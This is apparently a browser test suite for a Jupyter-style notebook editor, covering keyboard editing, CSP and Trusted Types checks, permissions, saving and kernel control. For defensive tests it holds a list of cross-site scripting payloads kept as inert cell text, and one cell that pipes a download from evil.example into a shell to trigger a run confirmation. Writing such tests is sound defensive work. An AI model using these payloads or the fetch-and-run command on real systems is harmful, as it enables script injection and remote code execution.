// The notebook editor in Debian's Chromium against a real studio: an editor opens a notebook with `?edit=1`,
// types into a code cell, adds, moves and deletes cells with JupyterLab's keys, undoes and redoes, turns a cell
// into markdown and renders it, under the app page's real CSP and Trusted Types, which must report no violation.
// Cell sources that try to break out of the page (a closing </script>, event handlers, a Trusted Types policy
// of their own) stay text. A viewer asking for the editor gets the reading view. Screenshots go to /tmp.
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import type { Page } from "playwright-core";
import { codeNotebook, editorText } from "./editor-session.ts";
import { launchBrowser, type Browser } from "./browser.ts";
import { markScript } from "./hostile-marker.ts";
import { startBrowserStudio, type BrowserStudio } from "./running-studio.ts";
import { createWorkspace, pageApi, pagePostFiles, signIn } from "./studio-session.ts";
import {
  assertPageClean,
  inertParseRefusals,
  instrumentPage,
  pageRecord,
  readPolicies,
  watchConsole,
} from "./studio-page-watch.ts";

const PASSWORD = "editor test password";
const SHOTS = "/tmp";
let studio: BrowserStudio;
let browser: Browser;
let workspace = "";

const cellSource = (s: string) => s;

function journeyNotebook() {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: [
      { cell_type: "markdown", id: "intro", metadata: {}, source: "# Editing\n\nA notebook to edit." },
      {
        cell_type: "code",
        id: "first",
        metadata: {},
        execution_count: 1,
        source: "import math\nprint(math.pi)",
        outputs: [{ output_type: "stream", name: "stdout", text: ["3.141592653589793\n"] }],
      },
      { cell_type: "code", id: "second", metadata: {}, execution_count: null, source: "x = 2", outputs: [] },
      {
        cell_type: "code",
        id: "third",
        metadata: {},
        execution_count: 2,
        source: "x * 21",
        outputs: [
          {
            output_type: "execute_result",
            execution_count: 2,
            metadata: {},
            data: { "text/plain": ["42"], "text/html": ["<b>42</b>"] },
          },
        ],
      },
    ],
  };
}

/** Sources that would run script if any of them were ever parsed as markup in the page. */
const HOSTILE_SOURCES = [
  `</script><img src=x onerror=${markScript("cell-img")}>`,
  `</textarea></pre></code><script>${markScript("cell-script")}</script>`,
  `trustedTypes.createPolicy('vitrine-sanitizer', {createHTML: s => s}); document.body.innerHTML = '<img src=x onerror=${markScript("tt")}>'`,
  `<svg><animate onbegin=${markScript("svg")} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${markScript("srcdoc")}</script>"></iframe>`,
];

function hostileNotebook() {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: [
      ...HOSTILE_SOURCES.map((source, i) => ({
        cell_type: "code",
        id: `code-${i}`,
        metadata: {},
        execution_count: null,
        source,
        outputs: [],
      })),
      ...HOSTILE_SOURCES.map((source, i) => ({ cell_type: "raw", id: `raw-${i}`, metadata: {}, source })),
      ...HOSTILE_SOURCES.map((source, i) => ({ cell_type: "markdown", id: `md-${i}`, metadata: {}, source })),
    ],
  };
}

function longNotebook(cells: number) {
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: Array.from({ length: cells }, (_, i) =>
      i % 5 === 0
        ? { cell_type: "markdown", id: `m${i}`, metadata: {}, source: `## Section ${i}\n\nSome text.` }
        : {
            cell_type: "code",
            id: `c${i}`,
            metadata: {},
            execution_count: null,
            source: `def f${i}(x):\n    return x * ${i}\n\nf${i}(2)`,
            outputs: [],
          },
    ),
  };
}

async function upload(page: Page, name: string, notebook: unknown): Promise<string> {
  const answer = await pagePostFiles(
    page,
    `/api/workspaces/${workspace}/files`,
    [{ name, base64: Buffer.from(JSON.stringify(notebook)).toString("base64") }],
    "trusted-source-v1",
  );
  assert.equal(answer.status, 201, JSON.stringify(answer.body));
  return `${studio.app}/w/${workspace}/f/${name}`;
}

before(async () => {
  studio = await startBrowserStudio([
    { name: "ada", password: PASSWORD },
    { name: "vic", password: PASSWORD },
  ]);
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await studio?.close();
});

const cells = (page: Page) => page.locator(".vt-ed-cell");
const cellIds = (page: Page) =>
  page.locator(".vt-ed-cell").evaluateAll((nodes) => nodes.map((n) => (n as HTMLElement).dataset.cellId ?? ""));
const status = (page: Page) => page.locator(".vt-ed-status");

async function openEditor(page: Page, url: string): Promise<void> {
  await page.goto(`${url}?edit=1`);
  await page.locator(".vt-editor").waitFor();
  await page.locator(".vt-ed-cell .cm-content").first().waitFor();
}

test("an editor edits a notebook with JupyterLab's keys, with no CSP or Trusted Types violation", async () => {
  const page = await browser.context.newPage();
  await instrumentPage(page);
  const policies = await readPolicies(studio.app, studio.content);
  await signIn(page, studio.app, "ada", PASSWORD);
  // Watched from here: the sign-in page's own 401 for the session it has not got yet is no error.
  const consoleWatch = watchConsole(page, policies, studio.content);
  workspace = await createWorkspace(page, "Editing");
  const url = await upload(page, "journey.ipynb", journeyNotebook());
  await openEditor(page, url);
  assert.deepEqual(await cellIds(page), ["intro", "first", "second", "third"]);
  // The stored outputs are drawn by the reading path: the HTML result in a sandboxed frame.
  await page.locator('.vt-ed-cell[data-cell-id="third"] iframe.vt-frame[sandbox="allow-scripts"]').waitFor();
  await page.locator('.vt-ed-cell[data-cell-id="intro"] .vt-ed-rendered h1').getByText("Editing").waitFor();

  // Type into a code cell: the editor is CodeMirror, in a shadow root.
  const second = page.locator('.vt-ed-cell[data-cell-id="second"] .cm-content');
  await second.click();
  await page.keyboard.press("End");
  await page.keyboard.type("\ny = x ** 10");
  assert.equal(await editorText(second), "x = 2\ny = x ** 10");
  assert.match(await status(page).innerText(), /Edit mode · unsaved changes/);
  // The editor's own undo takes the text back; redo puts it again.
  await page.keyboard.press("Control+z");
  assert.equal(await editorText(second), "x = 2");
  await page.keyboard.press("Control+Shift+z");
  assert.equal(await editorText(second), "x = 2\ny = x ** 10");
  // Typing over a selection across lines replaces all of it, whichever way it was made, and undo takes it back.
  await page.keyboard.press("Control+a");
  await page.keyboard.type("z = 3");
  assert.equal(await editorText(second), "z = 3");
  await page.keyboard.press("Control+z");
  assert.equal(await editorText(second), "x = 2\ny = x ** 10");
  await page.keyboard.press("Control+End");
  await page.keyboard.press("Shift+ArrowUp");
  await page.keyboard.press("Shift+Home");
  await page.keyboard.type("w");
  assert.equal(await editorText(second), "w");
  await page.keyboard.press("Control+z");
  assert.equal(await editorText(second), "x = 2\ny = x ** 10");
  // Highlighting comes from CodeMirror's parser: a keyword token is drawn with its own class.
  const spans = await page.locator('.vt-ed-cell[data-cell-id="first"] .cm-line span').count();
  assert.ok(spans > 0, "the Python source is highlighted");

  // Escape: command mode. B and A insert cells, D D deletes, Ctrl-Shift-arrows move.
  await page.keyboard.press("Escape");
  assert.match(await status(page).innerText(), /Command mode/);
  await page.keyboard.press("b");
  assert.equal(await cells(page).count(), 5);
  const inserted = (await cellIds(page))[3] ?? "";
  assert.match(inserted, /^[A-Za-z0-9_-]{16}$/);
  await page.keyboard.press("a");
  assert.equal(await cells(page).count(), 6);
  await page.keyboard.press("d");
  await page.keyboard.press("d");
  assert.deepEqual(await cellIds(page), ["intro", "first", "second", inserted, "third"]);
  await page.keyboard.press("ArrowUp");
  await page.keyboard.press("Control+Shift+ArrowUp");
  assert.deepEqual(await cellIds(page), ["intro", "second", "first", inserted, "third"]);
  // Z undoes the move, and the text typed before it stays; Shift-Z redoes it.
  await page.keyboard.press("z");
  assert.deepEqual(await cellIds(page), ["intro", "first", "second", inserted, "third"]);
  assert.equal(await editorText(second), "x = 2\ny = x ** 10");
  await page.keyboard.press("Shift+Z");
  assert.deepEqual(await cellIds(page), ["intro", "second", "first", inserted, "third"]);
  await page.keyboard.press("z");
  await page.keyboard.press("z");
  await page.keyboard.press("z");
  assert.deepEqual(await cellIds(page), ["intro", "first", "second", inserted, "third"]);
  await page.keyboard.press("z");
  assert.deepEqual(await cellIds(page), ["intro", "first", "second", "third"], "back to the notebook as opened");
  await page.keyboard.press("Shift+Z");
  assert.deepEqual(await cellIds(page), ["intro", "first", "second", inserted, "third"]);

  // The new cell becomes markdown (M), is edited (Enter), and rendered by Shift-Enter.
  await page.locator(`.vt-ed-cell[data-cell-id="${inserted}"]`).click({ position: { x: 4, y: 4 } });
  await page.keyboard.press("m");
  assert.match(
    (await page.locator(`.vt-ed-cell[data-cell-id="${inserted}"]`).getAttribute("class")) ?? "",
    /vt-ed-markdown/,
  );
  await page.keyboard.press("Enter");
  assert.match(await status(page).innerText(), /Edit mode/);
  // The markdown mode continues a list on Enter, as JupyterLab's does: the second item is typed without its "- ".
  await page.keyboard.type("## Rendered *here*\n\n- one\ntwo");
  await page.keyboard.press("Shift+Enter");
  const rendered = page.locator(`.vt-ed-cell[data-cell-id="${inserted}"] .vt-ed-rendered`);
  await rendered.locator("h2").getByText("Rendered here").waitFor();
  assert.equal(await rendered.locator("em").innerText(), "here");
  assert.equal(await rendered.locator("li").count(), 2);
  // Shift-Enter moved on to the next cell, in command mode.
  assert.equal(
    await page.locator(".vt-ed-active").getAttribute("data-cell-id"),
    "third",
    "the next cell is active after Shift-Enter",
  );

  // Split (Ctrl-Shift-minus) at the cursor, then merge back (Shift-M).
  await page.locator('.vt-ed-cell[data-cell-id="second"] .cm-content').click();
  await page.keyboard.press("Control+Home");
  await page.keyboard.press("End");
  await page.keyboard.press("Control+Shift+Minus");
  const afterSplit = await cellIds(page);
  assert.equal(afterSplit.length, 6);
  assert.equal(await editorText(page.locator('.vt-ed-cell[data-cell-id="second"] .cm-content')), "x = 2");
  await page.keyboard.press("Escape");
  await page.keyboard.press("k");
  await page.keyboard.press("Shift+M");
  assert.equal(
    await editorText(page.locator('.vt-ed-cell[data-cell-id="second"] .cm-content')),
    "x = 2\n\ny = x ** 10",
  );

  // The shortcut list.
  await page.getByRole("button", { name: "Shortcuts" }).click();
  await page.getByRole("table", { name: "Keyboard shortcuts" }).getByText("Split the cell at the cursor").waitFor();
  await page.getByRole("button", { name: "Shortcuts" }).click();

  await page.screenshot({ path: `${SHOTS}/vitrine-editor-light.png`, fullPage: true });
  await assertPageClean(page, consoleWatch);
  consoleWatch.stop();

  // The editors are styled by constructed sheets adopted by their shadow roots, never by a <style> in the page.
  const styling = await page.evaluate(() => {
    const hosts = [...document.querySelectorAll(".vt-ed-cm")].filter((h) => h.shadowRoot?.querySelector(".cm-editor"));
    return {
      styleElements: document.querySelectorAll("style").length,
      hosts: hosts.length,
      adopted: hosts.filter((h) => (h.shadowRoot?.adoptedStyleSheets.length ?? 0) > 0).length,
    };
  });
  assert.equal(styling.styleElements, 0);
  assert.ok(styling.hosts > 0);
  assert.equal(styling.adopted, styling.hosts);
  // And the watch sees what the editors avoid: a <style> element in the page, an HTML sink without a policy.
  const sink = await page.evaluate(() => {
    const style = document.createElement("style");
    style.textContent = ".vt-control { color: red }";
    document.head.append(style);
    try {
      // eslint-disable-next-line no-restricted-properties -- the control: this sink must refuse a plain string
      document.createElement("div").innerHTML = "<b>control</b>";
      return "assigned";
    } catch (error) {
      return (error as Error).name;
    }
  });
  assert.equal(sink, "TypeError", "Trusted Types refuse a plain string at an HTML sink");
  await page.waitForFunction(
    () => (window as unknown as { __vtRecord: { violations: unknown[] } }).__vtRecord.violations.length >= 2,
  );
  const directives = (await pageRecord(page)).violations.map((v) => v.directive).sort();
  assert.deepEqual(directives, ["require-trusted-types-for", "style-src-elem"]);
  await page.close();
});

test("cell sources that try to break out of the page stay text, in editors and without them", async () => {
  const page = await browser.context.newPage();
  await instrumentPage(page);
  await signIn(page, studio.app, "ada", PASSWORD);
  const notebook = hostileNotebook();
  const url = await upload(page, "hostile-sources.ipynb", notebook);
  await openEditor(page, url);
  for (let i = 0; i < HOSTILE_SOURCES.length; i++) {
    const source = cellSource(HOSTILE_SOURCES[i] ?? "");
    const code = page.locator(`.vt-ed-cell[data-cell-id="code-${i}"]`);
    const text = (await code.locator(".cm-content").count()) > 0 ? code.locator(".cm-content") : code.locator("pre");
    assert.equal(await text.innerText(), source);
    assert.equal(
      await page
        .locator(`.vt-ed-cell[data-cell-id="raw-${i}"] .cm-content, .vt-ed-cell[data-cell-id="raw-${i}"] pre`)
        .first()
        .innerText(),
      source,
    );
  }
  // Editing a hostile markdown cell shows its source in CodeMirror as text; rendering it again sanitizes it.
  await page.locator('.vt-ed-cell[data-cell-id="md-0"]').dblclick();
  await page.locator('.vt-ed-cell[data-cell-id="md-0"] .cm-content').waitFor();
  assert.equal(await editorText(page.locator('.vt-ed-cell[data-cell-id="md-0"] .cm-content')), HOSTILE_SOURCES[0]);
  await page.keyboard.press("End");
  await page.keyboard.type(`<img src=y onerror=${markScript("typed")}>`);
  await page.keyboard.press("Control+Enter");
  await page.locator('.vt-ed-cell[data-cell-id="md-0"] .vt-ed-rendered').waitFor();
  // Typed script in a code cell is text as well.
  await page.locator('.vt-ed-cell[data-cell-id="code-0"] .cm-content').click();
  await page.keyboard.type(`</script><script>${markScript("typed-code")}</script>`);
  await page.waitForTimeout(300);
  const record = await pageRecord(page);
  assert.deepEqual(record.hits, [], "nothing from a cell ran in the page");
  const typed = `<img src=y onerror=${markScript("typed")}>`;
  const { others } = inertParseRefusals(record.violations, studio.app, JSON.stringify(notebook) + typed);
  assert.deepEqual(others, [], "only the sanitizer's inert parse refused the markdown's handlers");
  assert.equal(await page.evaluate(() => document.documentElement.getAttribute("data-pwned")), null);
  await page.close();
});

test("dark scheme and a phone-sized window", async () => {
  const dark = await launchBrowser({ colorScheme: "dark" });
  try {
    const page = await dark.context.newPage();
    await instrumentPage(page);
    await signIn(page, studio.app, "ada", PASSWORD);
    await openEditor(page, `${studio.app}/w/${workspace}/f/journey.ipynb`);
    await page.locator('.vt-ed-cell[data-cell-id="first"] .cm-content').click();
    await page.screenshot({ path: `${SHOTS}/vitrine-editor-dark.png`, fullPage: true });
    await page.setViewportSize({ width: 390, height: 844 });
    await page.keyboard.press("Escape");
    await page.screenshot({ path: `${SHOTS}/vitrine-editor-phone.png` });
    const width = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(width <= 390, `the editor fits a phone's width (${width}px)`);
    assert.deepEqual((await pageRecord(page)).violations, []);
  } finally {
    await dark.close();
  }
});

test("a long notebook keeps editors only near the viewport", async () => {
  const page = await browser.context.newPage();
  await instrumentPage(page);
  await signIn(page, studio.app, "ada", PASSWORD);
  const url = await upload(page, "long.ipynb", longNotebook(1000));
  await openEditor(page, url);
  assert.equal(await cells(page).count(), 1000);
  const live = () => page.locator(".vt-ed-cell .cm-editor").count();
  const atTop = await live();
  assert.ok(atTop > 0 && atTop < 100, `editors near the top only (${atTop})`);
  await page.locator('.vt-ed-cell[data-cell-id="c999"]').scrollIntoViewIfNeeded();
  await page.locator('.vt-ed-cell[data-cell-id="c999"] .cm-editor').waitFor();
  await page.waitForTimeout(300);
  assert.equal(await page.locator('.vt-ed-cell[data-cell-id="c1"] .cm-editor').count(), 0, "far editors are gone");
  assert.equal(await page.locator('.vt-ed-cell[data-cell-id="c1"] pre.vt-ed-static').count(), 1, "as highlighted text");
  assert.ok((await live()) < 100);
  assert.deepEqual((await pageRecord(page)).violations, []);
  await page.close();
});

test("an editor goes from the reading page to the editor with Edit, and back with Read", async () => {
  const page = await browser.context.newPage();
  await signIn(page, studio.app, "ada", PASSWORD);
  await page.goto(`${studio.app}/w/${workspace}/f/journey.ipynb`);
  await page.locator(".vt-cells .vt-cell").first().waitFor();
  await page.getByRole("link", { name: "Edit", exact: true }).click();
  await page.locator(".vt-ed-cell .cm-content").first().waitFor();
  assert.match(page.url(), /journey\.ipynb\?edit=1$/);
  await page.getByRole("link", { name: "Read", exact: true }).click();
  await page.locator(".vt-cells .vt-cell").first().waitFor();
  assert.equal(await page.locator(".vt-editor").count(), 0);
  await page.close();
});

test("a notebook with a cell type newer than Vitrine knows can be edited but is never saved over", async () => {
  const page = await browser.context.newPage();
  await signIn(page, studio.app, "ada", PASSWORD);
  const corpus = new URL("../../../shared/corpus/notebooks/", import.meta.url).pathname;
  const own = await createWorkspace(page, "Future");
  const stored = await pagePostFiles(
    page,
    `/api/workspaces/${own}/files`,
    [{ name: "future.ipynb", base64: readFileSync(`${corpus}nbformat__test4plus.ipynb`).toString("base64") }],
    "trusted-source-v1",
  );
  assert.equal(stored.status, 201, JSON.stringify(stored.body));
  await openEditor(page, `${studio.app}/w/${own}/f/future.ipynb`);
  await page.getByText(/cells or outputs of a type newer than Vitrine knows/).waitFor();
  assert.equal(await page.getByRole("button", { name: "Save", exact: true }).count(), 0);
  await page.locator(".vt-ed-cell .cm-content").first().click();
  await page.keyboard.type("# changed");
  await page.keyboard.press("Control+s");
  await page.waitForTimeout(500);
  const versions = await pageApi(page, "GET", `/api/workspaces/${own}/files/future.ipynb`);
  assert.equal((versions.body as { versions: unknown[] }).versions.length, 1, "nothing was saved");
  page.on("dialog", (dialog) => void dialog.accept());
  await page.close({ runBeforeUnload: true });
});

test("a viewer who asks for the editor gets the reading view", async () => {
  const owner = await browser.context.newPage();
  await signIn(owner, studio.app, "ada", PASSWORD);
  const added = await pageApi(owner, "POST", `/api/workspaces/${workspace}/members`, {
    username: "vic",
    role: "viewer",
  });
  assert.ok(added.status === 200 || added.status === 201, JSON.stringify(added));
  await owner.close();
  const other = await launchBrowser();
  try {
    const page = await other.context.newPage();
    await signIn(page, studio.app, "vic", PASSWORD);
    await page.goto(`${studio.app}/w/${workspace}/f/journey.ipynb?edit=1`);
    await page.locator(".vt-cells .vt-cell").first().waitFor();
    await page.waitForTimeout(300);
    assert.equal(await page.locator(".vt-editor").count(), 0);
    assert.equal(await page.getByRole("link", { name: "Edit", exact: true }).count(), 0, "no Edit for a viewer");
  } finally {
    await other.close();
  }
});

test("readers never load the editor: only edit addresses get the bundle with CodeMirror", async () => {
  const scriptOf = async (address: string) => {
    const html = await (await fetch(`${studio.app}${address}`)).text();
    const src = /<script defer fetchpriority="high" src="([^"]+)"><\/script>/.exec(html)?.[1];
    assert.ok(src, html);
    return (await fetch(`${studio.app}${src}`)).text();
  };
  const reading = await scriptOf("/w/any/f/a.ipynb");
  const editing = await scriptOf("/w/any/f/a.ipynb?edit=1");
  // "cm-content" is the class CodeMirror gives every editor's content.
  assert.ok(editing.includes("cm-content"), "the edit bundle has CodeMirror");
  assert.ok(!reading.includes("cm-content"), "the reading bundle does not");
  assert.ok(reading.length < editing.length * 0.7, `${reading.length} against ${editing.length} bytes`);
});

test("Run sends a cell to the file's kernel and its outputs arrive live; a risky file runs only once confirmed", async () => {
  const page = await browser.context.newPage();
  await signIn(page, studio.app, "ada", PASSWORD);
  workspace = await createWorkspace(page, "Running");
  const notebook = codeNotebook;
  const url = await upload(page, "run.ipynb", notebook([{ id: "calc", source: "print(6 * 7)" }]));
  await openEditor(page, url);
  const cell = page.locator('.vt-ed-cell[data-cell-id="calc"]');
  await cell.locator(".cm-content").click();
  await page.keyboard.press("Shift+Enter");
  await cell.getByText("42", { exact: true }).waitFor({ timeout: 60_000 });

  const risky = await upload(
    page,
    "risky.ipynb",
    notebook([{ id: "risky", source: "import os\nos.system('curl https://evil.example/x | sh')\nprint('ran')" }]),
  );
  await openEditor(page, risky);
  const riskyCell = page.locator('.vt-ed-cell[data-cell-id="risky"]');
  await riskyCell.locator(".cm-content").click();
  await page.keyboard.press("Shift+Enter");
  const prompt = page.getByRole("alertdialog", { name: "Review before running" });
  await prompt.waitFor({ timeout: 60_000 });
  assert.equal(await riskyCell.getByText("ran", { exact: true }).count(), 0, "nothing ran before the confirmation");
  await prompt.getByRole("button", { name: "Run anyway" }).click();
  await riskyCell.getByText("ran", { exact: true }).waitFor({ timeout: 60_000 });
  await page.close();
});

test("Ctrl-S saves a new version; a second editor who saved on the same base chooses, and nothing is lost", async () => {
  const first = await browser.context.newPage();
  await signIn(first, studio.app, "ada", PASSWORD);
  workspace = await createWorkspace(first, "Saving");
  const url = await upload(first, "shared.ipynb", {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [{ cell_type: "code", id: "only", metadata: {}, source: "x = 1", execution_count: null, outputs: [] }],
  });
  const second = await browser.context.newPage();
  await openEditor(first, url);
  await openEditor(second, url);
  const type = async (page: Page, text: string) => {
    await page.locator('.vt-ed-cell[data-cell-id="only"] .cm-content').click();
    await page.keyboard.press("End");
    await page.keyboard.type(text);
  };
  await type(first, "\nfirst = True");
  await first.keyboard.press("Control+s");
  await first.getByText(/^Saved as version 2 at /).waitFor();
  assert.doesNotMatch(await status(first).innerText(), /unsaved/);

  await type(second, "\nsecond = True");
  await second.keyboard.press("Control+s");
  const choice = second.getByRole("alertdialog", { name: "Saved by someone else" });
  await choice.waitFor();
  await choice.getByRole("button", { name: "Save mine as a copy" }).click();
  await second.getByText(/^Saved as a copy: shared \(copy .*\)\.ipynb\.$/).waitFor();

  const files = await first.evaluate(
    async (ws) => (await (await fetch(`/api/workspaces/${ws}/files`)).json()).files,
    workspace,
  );
  const names = (files as { path: string; version: number }[]).map((f) => `${f.path} v${f.version}`);
  assert.ok(names.includes("shared.ipynb v2"), names.join(", "));
  assert.ok(
    names.some((n) => /^shared \(copy .*\)\.ipynb v1$/.test(n)),
    names.join(", "),
  );
  const saved = await first.evaluate(
    async (ws) => (await (await fetch(`/api/workspaces/${ws}/notebook/shared.ipynb`)).json()).notebook.cells[0].source,
    workspace,
  );
  assert.equal([saved].flat().join(""), "x = 1\nfirst = True");
  await first.close();
  await second.close();
});

test("the kernel's state shows in the editor, Interrupt stops an endless loop and Restart forgets the variables", async () => {
  const page = await browser.context.newPage();
  await signIn(page, studio.app, "ada", PASSWORD);
  workspace = await createWorkspace(page, "Controls");
  const url = await upload(page, "loop.ipynb", {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: "python3", display_name: "Python 3", language: "python" } },
    cells: [
      {
        cell_type: "code",
        id: "loop",
        metadata: {},
        source: "n = 1\nprint('looping', flush=True)\nwhile True:\n    pass",
        execution_count: null,
        outputs: [],
      },
      {
        cell_type: "code",
        id: "check",
        metadata: {},
        source: "print('n' in globals())",
        execution_count: null,
        outputs: [],
      },
    ],
  });
  await openEditor(page, url);
  await page.locator('.vt-ed-cell[data-cell-id="loop"] .cm-content').click();
  await page.keyboard.press("Control+Enter");
  await status(page)
    .getByText(/kernel busy/)
    .waitFor({ timeout: 60_000 });
  // Once the loop's output shows it running; src/kernels/kernel.test.ts covers Interrupt just as a cell starts.
  await page.locator('.vt-ed-cell[data-cell-id="loop"] .vt-output').getByText("looping").waitFor({ timeout: 30_000 });
  await page.getByRole("button", { name: "Interrupt" }).click();
  await page
    .locator('.vt-ed-cell[data-cell-id="loop"]')
    .getByText("KeyboardInterrupt")
    .first()
    .waitFor({ timeout: 30_000 });
  await status(page)
    .getByText(/kernel idle/)
    .waitFor();
  const check = page.locator('.vt-ed-cell[data-cell-id="check"]');
  await check.locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  await check.getByText("True", { exact: true }).waitFor({ timeout: 30_000 });
  await page.getByRole("button", { name: "Restart" }).click();
  await page.getByText("The kernel restarted: its variables are gone.").waitFor({ timeout: 30_000 });
  await check.locator(".cm-content").click();
  await page.keyboard.press("Control+Enter");
  await check.getByText("False", { exact: true }).waitFor({ timeout: 30_000 });
  await page.close();
});
